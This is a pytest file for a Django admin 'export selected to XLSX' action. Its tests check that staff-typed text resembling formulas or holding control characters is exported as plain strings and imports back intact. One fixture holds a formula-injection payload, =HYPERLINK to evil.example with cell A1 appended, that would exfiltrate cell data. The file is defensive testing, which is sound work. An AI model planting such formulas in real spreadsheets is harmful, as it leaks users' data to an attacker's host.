"""«Выгрузить выбранные в XLSX» writes what staff typed as text: never a formula, no control character
(core.cells through tabular.xlsx), and the file imports back."""

import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from events.models import Event
from tests.factories import EventFactory, LibraryFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Подробнее")'
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


@pytest.fixture
def staff(client, methodologist, host):
    client.force_login(methodologist)
    return client


@pytest.fixture
def typed(db):
    organiser = LibraryFactory(short_name="@Омская ДБ")
    return [
        EventFactory(title=HYPERLINK, description="=1+1", organiser=organiser),
        EventFactory(title="Вебинар\x0bс вертикальной табуляцией", description="-5+5\r\nвторая строка\x07"),
        EventFactory(title="+7 (3842) 00-00-00", description="\tс табуляцией", organiser=organiser),
    ]


def export(client, events):
    return client.post(
        reverse("admin:events_event_changelist"),
        {"action": "export_xlsx", "_selected_action": [event.pk for event in events]},
    )


def cells_by_header(content: bytes) -> tuple[list, dict[str, list]]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    rows = list(sheet.iter_rows())
    headers = [cell.value for cell in rows[0]]
    return rows, {header: [row[i] for row in rows[1:]] for i, header in enumerate(headers)}


def test_formula_like_text_and_control_characters_export_as_plain_text(staff, typed):
    response = export(staff, typed)

    assert response.status_code == 200
    rows, columns = cells_by_header(response.content)
    every_cell = [cell for row in rows for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in every_cell if cell.data_type == "f"] == []
    assert [cell.value for cell in every_cell if isinstance(cell.value, str) and CONTROL.search(cell.value)] == []
    titles = {cell.value: cell.data_type for cell in columns["Название"]}
    assert titles == {
        HYPERLINK: "s",
        "Вебинарс вертикальной табуляцией": "s",
        "+7 (3842) 00-00-00": "s",
    }
    descriptions = {cell.value: cell.data_type for cell in columns["Описание"]}
    assert descriptions == {"=1+1": "s", "-5+5\nвторая строка": "s", "\tс табуляцией": "s"}
    assert {cell.value for cell in columns["Организатор"]} >= {"@Омская ДБ"}
    assert all(cell.data_type == "s" for cell in rows[0])  # the headers too


def test_dates_and_numbers_keep_their_types(staff):
    event = EventFactory(participants_count=42)

    _rows, columns = cells_by_header(export(staff, [event]).content)

    (start,) = columns["Начало"]
    (count,) = columns["Участников всего (если по площадкам неизвестно)"]
    (published,) = columns["Опубликовано"]
    assert start.is_date and start.number_format == "DD.MM.YYYY HH:MM"
    assert count.value == 42 and count.data_type == "n"
    assert (published.value, published.data_type) == ("да", "s")


def test_exported_formula_like_titles_import_back_as_the_same_text(staff, typed):
    content = export(staff, typed[:1]).content
    Event.objects.filter(pk=typed[0].pk).delete()
    url = reverse("admin:events_event_import")
    preview = staff.post(url, {"file": SimpleUploadedFile("events.xlsx", content)})
    assert preview.status_code == 200, preview.context.get("result")
    staff.post(url, {"payload": preview.context["payload"]})

    again = Event.objects.get(title=HYPERLINK)
    assert (again.description, again.organiser.short_name) == ("=1+1", "@Омская ДБ")
